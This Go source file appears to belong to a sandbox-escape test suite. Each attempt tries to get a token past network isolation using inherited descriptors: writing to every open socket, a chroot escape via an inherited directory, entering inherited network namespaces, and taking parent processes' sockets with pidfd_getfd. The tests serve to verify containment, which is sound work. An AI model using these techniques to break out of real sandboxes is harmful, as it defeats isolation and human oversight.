package escapes

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"
)

// inheritAttempts use what the caller left open.
func inheritAttempts() []Attempt {
	attempts := []Attempt{
		{Name: "inherit/every-number", Does: "write to whatever socket is open", Try: writeEverywhere},
		{Name: "inherit/child", Does: "have another program write to an inherited connection", Try: func(g *Ground) error {
			return g.scene("write-inherited", nil)
		}},
		{Name: "inherit/root", Does: "leave a chroot by an inherited folder", Needs: []Need{NeedUserns}, Try: func(g *Ground) error {
			return g.scene("root-descriptor", ownNamespaces())
		}},
		{Name: "inherit/network", Does: "enter an inherited network namespace", Needs: []Need{NeedRoot}, Try: func(g *Ground) error {
			return enterAndConnect(g, g.Inherited["netns"])
		}},
		{Name: "inherit/network-reopened", Does: "enter an inherited network namespace by its file in /proc", Needs: []Need{NeedRoot}, Try: func(g *Ground) error {
			fd, err := unix.Open("/proc/self/fd/"+decimal(g.Inherited["netns"]), unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				return err
			}
			return enterAndConnect(g, fd)
		}},
		{Name: "inherit/listener", Does: "accept on an inherited listener", Needs: []Need{NeedOuter}, Try: acceptInherited},
		{Name: "inherit/ring", Does: "send by an inherited io_uring on an inherited socket", Needs: []Need{NeedURing}, Try: sendByRing},
		{Name: "inherit/ancestors", Does: "take the sockets of the processes above", Needs: []Need{NeedRoot}, Try: takeFromAncestors},
	}
	for _, one := range inheritedUses {
		attempts = append(attempts, Attempt{Name: one.name, Does: one.does, Needs: one.needs, Try: func(g *Ground) error {
			fd, ok := g.Inherited[one.from]
			if !ok {
				return fmt.Errorf("no %s was inherited", one.from)
			}
			m, err := newMemory(16 << 10)
			if err != nil {
				return err
			}
			return one.use(g, &inet{uintptr(fd), m})
		}})
	}
	return attempts
}

// inheritedUses use one inherited descriptor each.
var inheritedUses = []struct {
	name, does, from string
	needs            []Need
	use              func(g *Ground, s *inet) error
}{
	{"inherit/write", "write to an inherited connection", "connected", nil, (*Ground).writeOn},
	{"inherit/write-high", "write to a connection with a high number", "high", nil, (*Ground).writeOn},
	{"inherit/write-datagram", "write to an inherited UDP socket that is connected", "datagram-connected", nil, (*Ground).writeOn},
	{"inherit/write-pair", "write to an inherited unix socket", "pair", nil, (*Ground).writeOn},
	{"inherit/duplicate", "write to a duplicate of an inherited connection", "connected", nil, func(g *Ground, s *inet) error {
		fd, err := unix.FcntlInt(s.fd, unix.F_DUPFD, 100)
		if err != nil {
			return err
		}
		return g.writeOn(&inet{uintptr(fd), s.m})
	}},
	{"inherit/passed", "send an inherited connection to itself and write", "connected", nil, func(g *Ground, s *inet) error {
		fd, err := passed(int(s.fd))
		if err != nil {
			return err
		}
		return g.writeOn(&inet{uintptr(fd), s.m})
	}},
	{"inherit/sendfile", "have a file sent on an inherited connection", "connected", nil, func(g *Ground, s *inet) error {
		fd, err := unix.MemfdCreate("token", unix.MFD_CLOEXEC)
		if err != nil {
			return err
		}
		if _, err := unix.Pwrite(fd, []byte(g.Token), 0); err != nil {
			return err
		}
		_, err = unix.Sendfile(int(s.fd), fd, new(int64), len(g.Token))
		return err
	}},
	{"inherit/splice", "splice a pipe into an inherited connection", "connected", nil, func(g *Ground, s *inet) error {
		var pipe [2]int
		if err := unix.Pipe2(pipe[:], unix.O_CLOEXEC); err != nil {
			return err
		}
		if _, err := unix.Write(pipe[1], []byte(g.Token)); err != nil {
			return err
		}
		_, err := unix.Splice(pipe[0], nil, int(s.fd), nil, len(g.Token), unix.SPLICE_F_NONBLOCK)
		return err
	}},
	{"inherit/connect-stream", "connect an inherited TCP socket", "stream", nil, func(g *Ground, s *inet) error {
		if err := s.connect(g.Denied.AddrPort4()); err != nil {
			return err
		}
		return g.writeOn(s)
	}},
	{"inherit/sendto", "send from an inherited UDP socket by sendto", "datagram", nil, func(g *Ground, s *inet) error {
		to := sockaddr(g.Denied.AddrPort4())
		_, err := call(unix.SYS_SENDTO, s.fd, s.m.put(256, []byte(g.Token)), uintptr(len(g.Token)), 0, s.m.put(0, to), uintptr(len(to)))
		return err
	}},
	{"inherit/sendmsg", "send from an inherited UDP socket by sendmsg", "datagram", nil, func(g *Ground, s *inet) error {
		return (&local{s.fd, s.m}).sendmsg(g.Token, sockaddr(g.Denied.AddrPort4()), nil)
	}},
	{"inherit/sendmmsg", "send from an inherited UDP socket by sendmmsg", "datagram-connected", nil, func(g *Ground, s *inet) error {
		return (&local{s.fd, s.m}).sendmmsg([]unixMessage{{data: g.Token}})
	}},
	{"inherit/packet", "send a frame by an inherited packet socket", "packet", []Need{NeedOuter}, func(g *Ground, s *inet) error {
		frame := make([]byte, 34) // an Ethernet and an IP header, of little sense
		copy(frame, "\xff\xff\xff\xff\xff\xff")
		frame[12], frame[14] = unix.ETH_P_IP>>8, 4<<4|5
		binary.BigEndian.PutUint16(frame[16:], uint16(20+len(g.Token)))
		frame = append(frame, g.Token...)
		_, err := call(unix.SYS_WRITE, s.fd, s.m.put(0, frame), uintptr(len(frame)))
		return err
	}},
}

// writeOn writes the token.
func (g *Ground) writeOn(s *inet) error {
	_, err := call(unix.SYS_WRITE, s.fd, s.m.put(0, []byte(g.Token)), uintptr(len(g.Token)))
	return err
}

func writeInherited(g *Ground, name string) error {
	m, err := newMemory(4096)
	if err != nil {
		return err
	}
	return g.writeOn(&inet{uintptr(g.Inherited[name]), m})
}

// writeEverywhere writes to every descriptor that is a socket, but to the
// standard streams.
func writeEverywhere(g *Ground) error {
	m, err := newMemory(4096)
	if err != nil {
		return err
	}
	var last error
	for fd := 3; fd < 2048; fd++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFSOCK {
			continue
		}
		_, last = call(unix.SYS_SENDTO, uintptr(fd), m.put(0, []byte(g.Token)), uintptr(len(g.Token)), unix.MSG_DONTWAIT, 0, 0)
	}
	return last
}

// rootDescriptorStep shuts itself into an empty folder, and leaves it by one
// that was open before.
func rootDescriptorStep(g *Ground) error {
	dir := g.mine("empty")
	if err := os.Mkdir(dir, 0o755); err != nil {
		return err
	}
	if err := unix.Chroot(dir); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	if err := unix.Fchdir(g.Inherited["root"]); err != nil {
		return fmt.Errorf("fchdir: %w", err)
	}
	return dialUnix(g, unix.SOCK_STREAM, pathSockaddr(g.Unix.Stream[1:]))
}

// acceptInherited answers who calls the listener.
func acceptInherited(g *Ground) error {
	m, err := newMemory(4096)
	if err != nil {
		return err
	}
	s := &inet{uintptr(g.Inherited["listener"]), m}
	port, err := s.port()
	if err != nil {
		return err
	}
	go func() {
		fd, err := call(unix.SYS_ACCEPT4, s.fd, 0, 0, unix.SOCK_CLOEXEC)
		if err != nil {
			return
		}
		_, _ = call(unix.SYS_WRITE, fd, m.put(2048, []byte(g.Token)), uintptr(len(g.Token)))
	}()
	// "tcp4": the call alone says nothing, for the caller of boundary has
	// the listener too; an answer does.
	return g.Listens("tcp4", g.Host4.String()+":"+strconv.Itoa(int(port)))
}

// takeFromAncestors looks for a connection to the denied peer among the
// descriptors of every process above this one.
func takeFromAncestors(g *Ground) error {
	last := errors.New("no connection was found")
	for pid := os.Getppid(); pid > 1; pid = parentPID(pid) {
		p, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			last = err
			continue
		}
		for _, fd := range descriptorsOf(pid) {
			taken, err := unix.PidfdGetfd(p, fd, 0)
			if err != nil {
				last = err
				continue
			}
			peer, err := unix.Getpeername(taken)
			if to, ok := peer.(*unix.SockaddrInet4); err == nil && ok && to.Addr == g.Denied.V4.As4() {
				_, last = unix.Write(taken, []byte(g.Token))
			}
			unix.Close(taken)
		}
		unix.Close(p)
	}
	return last
}

// descriptorsOf lists the open descriptors of a process; where that is not
// allowed, the numbers that are likely.
func descriptorsOf(pid int) []int {
	entries, err := os.ReadDir(filepath.Join("/proc", decimal(pid), "fd"))
	var fds []int
	if err != nil {
		for fd := range 64 {
			fds = append(fds, fd)
		}
		return fds
	}
	for _, e := range entries {
		if fd, err := strconv.Atoi(e.Name()); err == nil {
			fds = append(fds, fd)
		}
	}
	return fds
}

// parentPID is a process's parent, 0 where that can't be read.
func parentPID(pid int) int {
	text, _ := os.ReadFile(filepath.Join("/proc", decimal(pid), "stat"))
	var name, state string
	var id, parent int
	_, _ = fmt.Sscanf(string(text), "%d %s %s %d", &id, &name, &state, &parent)
	return parent
}
